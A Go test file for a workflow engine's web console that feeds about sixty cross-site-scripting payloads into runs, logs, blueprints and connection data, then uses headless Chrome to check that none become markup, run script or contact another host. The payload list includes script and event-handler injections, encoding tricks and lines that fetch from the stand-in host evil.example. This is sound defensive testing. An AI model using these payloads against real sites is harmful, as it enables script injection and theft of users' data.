package console

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"currant/engine/journal"
)

// hostile are texts that run a script, or ask another host, wherever they are not taken for text. %d tells them
// apart.
var hostile = []string{
	`<script>pwn(%d)</script>`, `<SCRIPT SRC=//evil.example/%d></SCRIPT>`, `"><script>pwn(%d)</script>`, `'><script>pwn(%d)</script>`, `</title><script>pwn(%d)</script>`,
	`</textarea><script>pwn(%d)</script>`, `</pre><script>pwn(%d)</script>`, `</code><img src=x onerror=pwn(%d)>`, `</svg><script>pwn(%d)</script>`, `<img src=x onerror=pwn(%d)>`,
	`<img src="https://evil.example/%d.png">`, `<svg onload=pwn(%d)>`, `<svg><script>pwn(%d)</script></svg>`, `<svg><animate onbegin=pwn(%d) attributeName=x dur=1s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=pwn(%d)>`,
	`<iframe src="javascript:parent.pwn(%d)"></iframe>`, `<iframe srcdoc="<script>parent.pwn(%d)</script>"></iframe>`, `<object data="data:text/html,<script>pwn(%d)</script>">`, `<embed src="//evil.example/%d">`, `<base href="//evil.example/%d/">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example/%d">`, `<link rel=stylesheet href=//evil.example/%d>`, `<style>@import '//evil.example/%d';</style>`, `<style>*{background:url(//evil.example/%d)}</style>`, `<form action=//evil.example/%d><button autofocus>`,
	`<input autofocus onfocus=pwn(%d)>`, `<select autofocus onfocus=pwn(%d)>`, `<details open ontoggle=pwn(%d)>`, `<body onload=pwn(%d)>`, `<video><source onerror=pwn(%d)></video>`,
	`<audio src=x onerror=pwn(%d)>`, `<marquee onstart=pwn(%d)>`, `<a href="javascript:pwn(%d)">x</a>`, `javascript:pwn(%d)`, `JaVaScRiPt:pwn(%d)`,
	`java&#10;script:pwn(%d)`, `data:text/html,<script>pwn(%d)</script>`, `" onmouseover="pwn(%d)" autofocus onfocus="pwn(%[1]d)`, `' onfocus='pwn(%d)' autofocus='`, "` onfocus=`pwn(%d)` autofocus=`",
	`" style="background:url(//evil.example/%d)`, `{{printf "%%s" "pwn%d"}}`, `${pwn(%d)}`, `%%{ if true }pwn(%d)%%{ endif }`, `<!--<img src="--><img src=x onerror=pwn(%d)//">`,
	`<![CDATA[><script>pwn(%d)</script>]]>`, `<noscript><p title="</noscript><img src=x onerror=pwn(%d)>">`, `<template><script>pwn(%d)</script></template>`, `<xmp><script>pwn(%d)</script></xmp>`, "<scr\x00ipt>pwn(%d)</scr\x00ipt>",
	`&lt;script&gt;pwn(%d)&lt;/script&gt;`, `&#60;script&#62;pwn(%d)&#60;/script&#62;`, `\u003cscript\u003epwn(%d)\u003c/script\u003e`, `%%3Cscript%%3Epwn(%d)%%3C/script%%3E`, "\u2028pwn(%d)\u2029",
	"\u202e<script>pwn(%d)</script>", `+ADw-script+AD4-pwn(%d)+ADw-/script+AD4-`, "\xf0\x3cscript>pwn(%d)</script>", `<script type=module>pwn(%d)</script>`, `<script>fetch('//evil.example/%d')</script>`,
	`<img srcset="//evil.example/%d 1x">`, `"};pwn(%d);//`,
}

// hostiles are all of the texts.
func hostiles() (out []string) {
	for i, text := range hostile {
		out = append(out, fmt.Sprintf(text, i))
	}
	return out
}

// quotedHCL is a text in a blueprint.
func quotedHCL(s string) string {
	return quoted(strings.ReplaceAll(strings.ToValidUTF8(s, "?"), "\x00", ""))
}

// Whatever runs, logs, contexts, blueprints and connectors hold is text: no script runs, and nobody else is asked.
func TestW8HostileText(t *testing.T) {
	texts := hostiles()
	if len(texts) < 60 {
		t.Fatalf("%d texts", len(texts))
	}
	all := strings.Join(texts, " ")
	var blueprint strings.Builder
	fmt.Fprintf(&blueprint, "blueprint \"shop\" { description = %s }\n# %s\nrunbook \"greet\" {\n  description = %s\n  trigger \"manual\" {\n    input_schema = object({ name = string })\n    context = trigger.input.name\n  }\n",
		quotedHCL(all), strings.NewReplacer("\n", " ", "\x00", "", "\u2028", "", "\u2029", "").Replace(strings.ToValidUTF8(all, "?")), quotedHCL(all))
	fmt.Fprintf(&blueprint, "  step \"log\" \"hello\" { message = trigger.input.name }\n  step \"compute\" \"value\" { value = { (trigger.input.name) = trigger.input.name } }\n")
	fmt.Fprintf(&blueprint, "  output \"name\" { value = trigger.input.name }\n}\nrunbook \"bad\" {\n  trigger \"manual\" { input_schema = object({ name = string }) }\n  step \"fail\" \"no\" { message = trigger.input.name }\n}\n")
	r := newRig(t, blueprint.String(), func(o *Options) {
		o.Connections = func(context.Context) ([]Connection, error) {
			return []Connection{{Blueprint: all, Name: all, Kind: all, Account: all, Address: all, Budgets: []Budget{{Name: all, Limit: 10, Remaining: 3}}}}, nil
		}
		o.Apps = func() []App {
			return []App{{Blueprint: all, Reference: all, Name: all, Extensions: texts, Rules: texts, Runbooks: texts}}
		}
		o.Customers = func(context.Context) ([]Customer, error) {
			return []Customer{{Provider: all, Account: all, App: all, Has: texts}}, nil
		}
		o.Ready = func() (bool, []string) { return false, texts }
		o.Version, o.PublicURL = all, all
	})
	s := r.screen()
	input, err := json.Marshal(map[string]string{"name": strings.ToValidUTF8(all, "?")})
	if err != nil {
		t.Fatal(err)
	}
	good, bad := r.start("greet", string(input)), r.start("bad", string(input))
	r.await(good, journal.Finished)
	r.await(bad, journal.Failed)
	alive := hostileRun(r, all, journal.Held)
	waits := hostileRun(r, all, journal.Waiting)
	paths := []string{"/", "/blueprints/shop", "/blueprints/shop/greet", "/runs", "/runs/" + good, "/runs/" + bad, "/runs/" + alive, "/runs/" + waits, "/runs/" + good + "/logs", "/runs/" + bad + "/logs",
		"/runs/" + alive + "/logs", "/runs/" + good + "/test", "/runs/" + bad + "/test", "/runs/" + alive + "/test", "/runs/" + good + "/value?part=trigger", "/runs/" + alive + "/value?part=output&path=pay",
		"/connections", "/apps", "/about"}
	for i, text := range append([]string{all}, texts...) {
		q := url.QueryEscape(text)
		if long || i == 0 { // all at once does what each does
			paths = append(paths, "/runs?text="+q+"&context="+q+"&runbook="+q, "/runs?since="+q+"&until="+q+"&status="+q, "/blueprints/shop?file="+q+"&from="+q, "/runs/"+alive+"?w="+q)
		}
		if long || i%9 == 1 {
			paths = append(paths, "/login?next="+q, "/runs/"+url.PathEscape(text), "/blueprints/"+url.PathEscape(text), "/"+url.PathEscape(text))
		}
	}
	// What runs where it should not tells by itself.
	s.do(chromedp.Evaluate[chromedp.Void](`1`))
	ran := func(where string) {
		t.Helper()
		if got := s.complaints(); len(got) > 0 {
			t.Fatalf("%s: a script ran, or broke: %v", where, got)
		}
		if got := s.outside(); len(got) > 0 {
			t.Fatalf("%s: another host was asked: %v", where, got)
		}
	}
	for _, path := range paths {
		s.open(path)
		ran(path)
		found := of(s, chromedp.Evaluate[string](`(() => { const bad = document.querySelector("script:not([src='/assets/console.js']), iframe, object, embed, base, body style, body link, img:not([src='/assets/icon.svg']), video, audio, marquee, template, math, main form[action^='//'], meta[http-equiv]");
			if (bad) return bad.outerHTML.slice(0, 300);
			for (const e of document.querySelectorAll("*")) for (const a of e.attributes) {
				if (/^on/i.test(a.name) || a.name === "style" || (/^(href|src|action|formaction|data|srcset)$/.test(a.name) && !/^(\/|#)(?!\/)/.test(a.value))) return e.outerHTML.slice(0, 300);
			}
			return "" })()`))
		if found != "" {
			t.Errorf("%s: text became markup: %s", path, found)
		}
	}
	// The same through a broken edit, and while a run is followed.
	reload := r.write(strings.Replace(blueprint.String(), `step "compute" "value"`, `step "compute" `+quotedHCL(`<img src=x onerror=pwn(1)>`), 1) + "\nrunbook " + quotedHCL(texts[0]) + " {}\n" + texts[1] + "\n")
	if !reload.Diags.HasErrors() {
		t.Fatal("the edit is not broken")
	}
	for _, path := range []string{"/", "/blueprints/shop", "/blueprints/shop?show=force"} {
		s.open(path)
		ran(path)
	}
	s.open("/runs/" + waits)
	s.awaitText("● live")
	err = r.e.Store().Commit(context.Background(), journal.Write{Run: waits, Logs: []journal.LogLine{{At: time.Now(), Level: "info", Message: "the last of it " + all}}, Update: &journal.Update{Status: journal.Waiting, WakeAt: time.Now().Add(time.Hour)}})
	if err != nil {
		t.Fatal(err)
	}
	s.awaitText("the last of it")
	ran("a followed run")
	// The control: what would run does, where it is let.
	s.do(chromedp.Navigate("about:blank"), chromedp.Evaluate[chromedp.Void](`document.write("<script>console.log('it runs')<\/script>")`))
	if len(s.complaints()) == 0 {
		t.Error("a script that runs is not noticed")
	}
}

var hostileRuns = 100

// hostileRun stores a run whose every text is hostile.
func hostileRun(r *rig, text string, status journal.Status) string {
	r.t.Helper()
	hostileRuns++
	id, ctx, s := ids(hostileRuns), context.Background(), r.e.Store()
	value, err := json.Marshal(map[string]any{"value": map[string]any{"text": text, text: []string{text}}})
	if err != nil {
		r.t.Fatal(err)
	}
	_, _, err = s.Accept(ctx, journal.Run{ID: id, Blueprint: text, Runbook: text, Version: text, Context: text, Origin: text, Parent: text, Status: journal.Queued, Attempt: 1, AcceptedAt: time.Now(), Retention: time.Hour, Event: value})
	if err != nil {
		r.t.Fatal(err)
	}
	state := map[journal.Status]string{journal.Held: "held", journal.Waiting: "wait"}[status]
	record, err := json.Marshal(map[string]any{"s": state, "n": text, "u": 1, "a": 2, "r": text, "b": time.Now(), "w": time.Now().Add(time.Hour), "o": map[string]any{"value": map[string]string{text: text}}, "v": map[string]string{text: text},
		"x": map[string]any{"message": text, "kind": text, "step": text, "file": text}})
	if err != nil {
		r.t.Fatal(err)
	}
	put := []journal.Record{{Path: "pay", Data: record}, {Path: strings.NewReplacer("/", "", ".", "").Replace(text), Data: record}, {Path: "pay." + strings.NewReplacer("/", "", ".", "").Replace(text) + "/x", Data: record}}
	err = s.Commit(ctx, journal.Write{Run: id, Put: put, Logs: []journal.LogLine{{At: time.Now(), Level: text, Step: text, Message: text, Data: value}}, Update: &journal.Update{Status: status, WakeAt: time.Now().Add(time.Hour)}})
	if err != nil {
		r.t.Fatal(err)
	}
	return id
}

// Texts that do not reach a page whole are shown as what they are.
func TestShown(t *testing.T) {
	for in, want := range map[string]string{"plain": "plain", "a\tb\nc": "a\tb\nc", "é ü 漢 👍🏽": "é ü 漢 👍🏽", "a\u202eb": `a\u{202e}b`, "a\x00b": `a\u{0000}b`, "\xff": `\xff`, "a\u200bb": `a\u{200b}b`, "\u2028": `\u{2028}`, "\ufffd": "\ufffd"} {
		if got := shown(in); got != want {
			t.Errorf("%q: %q instead of %q", in, got, want)
		}
	}
}
